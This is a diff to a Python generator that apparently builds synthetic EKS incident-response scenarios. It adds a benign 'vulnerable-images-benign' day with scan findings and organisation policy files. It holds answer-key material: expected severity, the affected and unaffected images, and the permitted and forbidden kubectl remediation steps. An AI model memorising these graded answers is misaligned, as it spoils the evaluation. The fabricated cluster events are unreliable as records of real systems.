+    "rollout-controllers": "benign: the deployment-controller and replicaset-controller roll booking-api out (ReplicaSet booking-api-68c9d7b5f4, two pods, the old ones deleted); the kubelets report the new digest",
+    "autoscaling": "benign: the HorizontalPodAutoscaler scales search-api to 3 replicas at 12:31 and back to 2 at 18:40; the replicaset-controller adds and removes the pod",
+    "lookalike-maintenance": "benign: in the Tuesday 21:00-23:00 maintenance window the platform admin (lea.moreau@example.com, from the office) restarts the log-shipper DaemonSet (its pods are recreated on both nodes, from the image baked into the AMI) and opens a shell in a booking-api pod (Falco Terminal shell in container)",
+    "background": "benign: kubelets, control plane, metrics; the nodes' VPC CNI and ECR calls through the NAT",
+}
+
+
+def vb_consistency(docs):
+    problems = []
+    C = VB
+    pods = {p["metadata"]["name"]: p for p in docs["snapshot/pods.json"]["items"]}
+    for name, _, _ in C["api_pods"]:
+        if image_id_digest(pods[name]["status"]["containerStatuses"][0]["imageID"]) != docs["ecr/booking-api-2026.05.26-1.json"]["imageId"]["imageDigest"]:
+            problems.append(f"snapshot: {name} does not run the scanned digest")
+    running = {image_id_digest(cs["imageID"]) for p in pods.values() for cs in p["status"]["containerStatuses"]}
+    if docs["ecr/pricing-batch-0.9.4.json"]["imageId"]["imageDigest"] in running:
+        problems.append("ecr: pricing-batch must be an image no pod runs")
+    for name, _ in C["ls_pods"]:
+        if image_id_digest(pods[name]["status"]["containerStatuses"][0]["imageID"]):
+            problems.append(f"snapshot: {name} must run an image without a repository digest")
+    tgt = docs["grype/log-shipper-3.0.7.json"]["source"]["target"]
+    if tgt.get("repoDigests") or tgt.get("manifestDigest") or "@" in tgt["userInput"]:
+        problems.append("grype: the log shipper's report must name no digest")
+    for a in docs["falco/falco.jsonl"]:
+        p = pods.get(a["output_fields"].get("k8s.pod.name"))
+        if p is None or p["spec"]["nodeName"] != a["hostname"]:
+            problems.append(f"falco: {a['rule']} at {a['time']} names a pod not on its host")
+    return problems
+
+
+def build_vulnerable_images_benign(out):
+    vb_world()
+    C = VB
+    vb_day()
+    audit_background(C, T("09:30:21.118204"), T("23:00:00"), gap=(90, 150))
+    cloudtrail_background(C, range(10, 23, 3))
+    base = os.path.join(out, "vulnerable-images-benign")
+    files = {}
+    write_ct_s3(base, files, ct_records())
+    write_audit_log(base, files, audit_events())
+    write_falco(base, files)
+    write_snapshot(base, files, vb_snapshot())
+    vb_scans(base, files)
+    A, B_ = C["nodes"]
+    ns, api = C["ns"], C["api"]
+    head = {
+        "scenario": "vulnerable-images-benign",
+        "summary": (f"A normal production day on {S().cluster} ({S().account}, {S().region}): the pipeline rolls booking-api out to "
+                    f"2026.05.26-1, the HorizontalPodAutoscaler scales search-api up and down, and in the Tuesday maintenance window the "
+                    f"platform admin restarts the log-shipper DaemonSet and opens a shell in a booking-api pod. Nothing is malicious. "
+                    f"The running images have findings: booking-api (ECR basic scan on push: curl CVE-2023-38545 CRITICAL, glibc "
+                    f"CVE-2023-4911 HIGH), joined by the digest the kubelets report; the log shipper, baked into the node AMI and "
+                    f"never pushed, is known only by its tag (Grype in the AMI pipeline: golang.org/x/crypto CVE-2024-45337 CRITICAL, "
+                    f"golang.org/x/net CVE-2023-45288 HIGH). search-api has only MEDIUM and LOW findings; pricing-batch, scanned in "
+                    f"March, runs nowhere. Vulnerable components identified, not exploited: Medium."),
+        "severity": "Medium",
+        "severity_criteria": [
+            {"level": "Medium", "criterion": "vulnerable components identified but not actively exploited",
+             "evidence": f"{C['api_image']} (CRITICAL, HIGH) and {C['ls_image']} (CRITICAL, HIGH) run in production; no runtime alert "
+                         f"shows either exploited (the only shell is the admin's, in the maintenance window)"},
+        ],
+        "not_met": ["no attack: every record is benign", "no finding says an exploit is available (ECR basic scanning and Grype do not say)"],
+        "entities": {
+            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
+            "vulnerable_running_images": {C["api_image"]: {"digest": C["api_digest"], "joined_by": "digest", "scanner": "Amazon ECR (basic)",
+                                                           "workloads": [f"Deployment/{ns}/{api}"]},
+                                          C["ls_image"]: {"digest": None, "image_id": C["ls_image_id"], "joined_by": "tag", "scanner": "Grype",
+                                                          "workloads": [f"DaemonSet/{C['ls_ns']}/{C['ls']}"]}},
+            "not_vulnerable_running_image": {C["search_image"]: C["search_digest"]},
+            "scanned_not_running": {C["pricing_image"]: C["pricing_digest"]},
+            "admin": C["admin_session"], "office_ip": C["office_ip"], "ci_role": f"arn:aws:iam::{S().account}:role/{C['gha_role']}",
+        },
+        "scans": {
+            "ecr/booking-api-2026.05.26-1.json": f"ECR basic scan on push of {C['api_image']} ({C['api_digest']}): CRITICAL, HIGH, INFORMATIONAL",
+            "ecr/search-api-2026.05.20-4.json": f"ECR basic scan of {C['search_image']}: MEDIUM, LOW, INFORMATIONAL only",
+            "ecr/pricing-batch-0.9.4.json": f"ECR basic scan of {C['pricing_image']} (March): CRITICAL, HIGH, MEDIUM; no workload runs it",
+            "grype/log-shipper-3.0.7.json": f"Grype in the AMI pipeline of {C['ls_image']}: no repoDigests, no manifestDigest (never pushed)",
+        },
+        "joins": [
+            "booking-api pods -> status.containerStatuses[].imageID (snapshot and the kubelet's status patches) -> digest -> ECR imageId.imageDigest (repositoryName booking/booking-api, registryId)",
+            f"log-shipper pods -> imageID is a bare image id (sha256:..., an image imported into containerd from the AMI, no repository digest) and image {C['ls_image']} -> Grype source.target.userInput / tags: the tag is the only join",
+            "search-api pods -> ECR digest of search-api: MEDIUM/LOW only, not listed",
+            "pricing-batch: scanned, no pod, Deployment, ReplicaSet or audit record runs it",
+        ],
+        "benign_lookalikes": [
+            "the admin's shell in a booking-api pod (an image with a CRITICAL finding), in the maintenance window: not exploitation",
+            "the pipeline's push and image change, the autoscaler's scale up and down, the log shipper's restart",
+        ],
+        "steps": VB_STEPS,
+    }
+    ls_set = ["kubectl", "set", "image", f"daemonset/{C['ls']}", f"{C['ls']}=*"]
+    api_set = ["kubectl", "set", "image", f"deployment/{api}", f"{api}=*"]
+    expect = {
+        "pending": True,
+        "severity": "Medium",
+        "criteria": ["medium.vulnerable_component"],
+        "criteria_not": ["critical.active_exploitation", "critical.production_impact", "critical.cluster_admin", "high.unauthorised_deployment_change"],
+        "affected": [
+            {"kind": "image", "name": C["api_image"],
+             "attributes": {"joined_by": "digest", "digest": C["api_digest"], "max_severity": "CRITICAL", "scanner": "Amazon ECR",
+                            "vulnerabilities": "CVE-2023-38545,CVE-2023-4911", "containers": f"Deployment:{ns}/{api}/{api}",
+                            "record": "*ecr/booking-api-2026.05.26-1.json:*"}},
+            {"kind": "image", "name": C["ls_image"],
+             "attributes": {"joined_by": "tag", "max_severity": "CRITICAL", "scanner": "Grype",
+                            "vulnerabilities": "CVE-2024-45337,CVE-2023-45288", "containers": f"DaemonSet:{C['ls_ns']}/{C['ls']}/{C['ls']}",
+                            "fixes": "*golang.org/x/crypto v0.28.0 -> 0.31.0*"},
+             "why": "no digest on either side: the pods' imageID is a bare image id, Grype names no repository digest"},
+        ],
+        "not_affected": [
+            {"kind": "image", "name": C["search_image"], "why": "MEDIUM and LOW findings only"},
+            {"kind": "image", "name": C["search_digest"]},
+            {"kind": "image", "name": "*pricing-batch*", "why": "scanned, but no workload runs it"},
+            {"kind": "image", "name": C["pricing_digest"]},
+            {"kind": "image", "name": C["api_image_old"], "why": "replaced at 10:05 and never scanned here"},
+            {"kind": "ip", "name": C["office_ip"]}, {"kind": "iam_role", "name": C["admin_role"]}, {"kind": "iam_role", "name": C["gha_role"]},
+            {"kind": "node", "name": A.name}, {"kind": "node", "name": B_.name},
+        ] + [{"kind": "pod", "name": p, "namespace": ns} for p, _, _ in C["api_pods"]],
+        "plan": [
+            {"phase": "eradicate", "argv": api_set, "flags": {"--namespace": ns}, "blocked": True, "blocked_contains": "--rebuilt-image",
+             "why": "rebuild booking-api; no rebuilt image was given"},
+            {"phase": "eradicate", "argv": ls_set, "flags": {"--namespace": C["ls_ns"]}, "blocked": True,
+             "blocked_contains": "golang.org/x/crypto"},
+        ],
+        "plan_not": [
+            {"phase": "contain", "argv": ["kubectl", "cordon"]},
+            {"phase": "contain", "argv": ["kubectl", "apply"], "stdin_contains": ["kind: NetworkPolicy"],
+             "why": "nothing is compromised: no isolation"},
+            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "pod"]},
+            {"phase": "contain|eradicate", "argv": ["kubectl", "set", "image", f"deployment/{C['search']}"],
+             "why": "search-api has no CRITICAL or HIGH finding"},
+            {"phase": "contain", "argv": ["iam"]},
+        ],
+    }
+    counts = finish_truth(out, "vulnerable-images-benign", head, files, expect,
+                          ("lookalike-ci-rollout", "lookalike-maintenance", "autoscaling"))
+    return base, files, counts, check(base, os.path.join(out, "vulnerable-images-benign.truth.json"), vb_consistency)
 
 
 # =============================================================================================
@@ -3560,11 +4844,71 @@ production:
   clusters: [prod-finance]
   namespaces: [ledger, kube-system]
 """,
+    "vulnerable-web-image": """# Organisation policy for the vulnerable-web-image scenario (keys: docs/config.md).
+
+trusted_registries:
+  - "736251409812.dkr.ecr.ap-northeast-1.amazonaws.com"   # this account's ECR: customer-portal, report-worker
+  - "602401143452.dkr.ecr.*"                              # EKS add-on images
+  - registry.k8s.io
+
+expected_namespaces: [portal]
+
+production:
+  clusters: [prod-portal]
+  namespaces: [portal, kube-system]
+
+# The VPC, the NAT gateway and the GitHub runners (198.51.100.192/26), the office (192.0.2.64/26).
+trusted_cidrs: [10.127.0.0/16, 198.51.100.192/26, 192.0.2.64/26]
+
+admin_principals:
+  - arn:aws:iam::736251409812:role/platform-admin
+
+cicd_identities:
+  - arn:aws:iam::736251409812:role/github-actions-deploy
+  - github-actions-deploy
+
+expected_nodegroups: [prod-portal-general]
+
+expected_daemonsets: [aws-node, kube-proxy]
+""",
+    "vulnerable-images-benign": """# Organisation policy for the vulnerable-images-benign scenario (keys: docs/config.md).
+
+trusted_registries:
+  - "847362915037.dkr.ecr.eu-west-3.amazonaws.com"   # this account's ECR: booking-api, search-api (and the log shipper's name)
+  - "602401143452.dkr.ecr.*"                         # EKS add-on images
+  - registry.k8s.io
+
+expected_namespaces: [booking, logging]
+
+production:
+  clusters: [prod-travel]
+  namespaces: [booking, logging, kube-system]
+
+# The VPC, the NAT gateway and the GitHub runners (198.51.100.240/28), the office (192.0.2.128/26).
+trusted_cidrs: [10.138.0.0/16, 198.51.100.240/28, 192.0.2.128/26]
+
+admin_principals:
+  - arn:aws:iam::847362915037:role/platform-admin
+  - "arn:aws:sts::847362915037:assumed-role/platform-admin/*"
+
+cicd_identities:
+  - arn:aws:iam::847362915037:role/github-actions-deploy
+  - github-actions-deploy
+
+expected_nodegroups: [prod-travel-general]
+
+expected_daemonsets: [aws-node, kube-proxy, log-shipper]
+
+# Platform maintenance: Tuesdays 21:00-23:00 UTC.
+maintenance_windows:
+  - {days: [tue], from: "21:00", to: "23:00"}
+""",
 }
 
 BUILDERS = [("access-entry-xacct", build_access_entry_xacct), ("anonymous-binding", build_anonymous_binding),
             ("aws-auth-cronjob", build_aws_auth_cronjob), ("imds-s3-exfil", build_imds_s3_exfil), ("logging-off", build_logging_off),
-            ("shared-ground", build_shared_ground)]
+            ("shared-ground", build_shared_ground), ("vulnerable-web-image", build_vulnerable_web_image),
+            ("vulnerable-images-benign", build_vulnerable_images_benign)]
 
 
 def main():
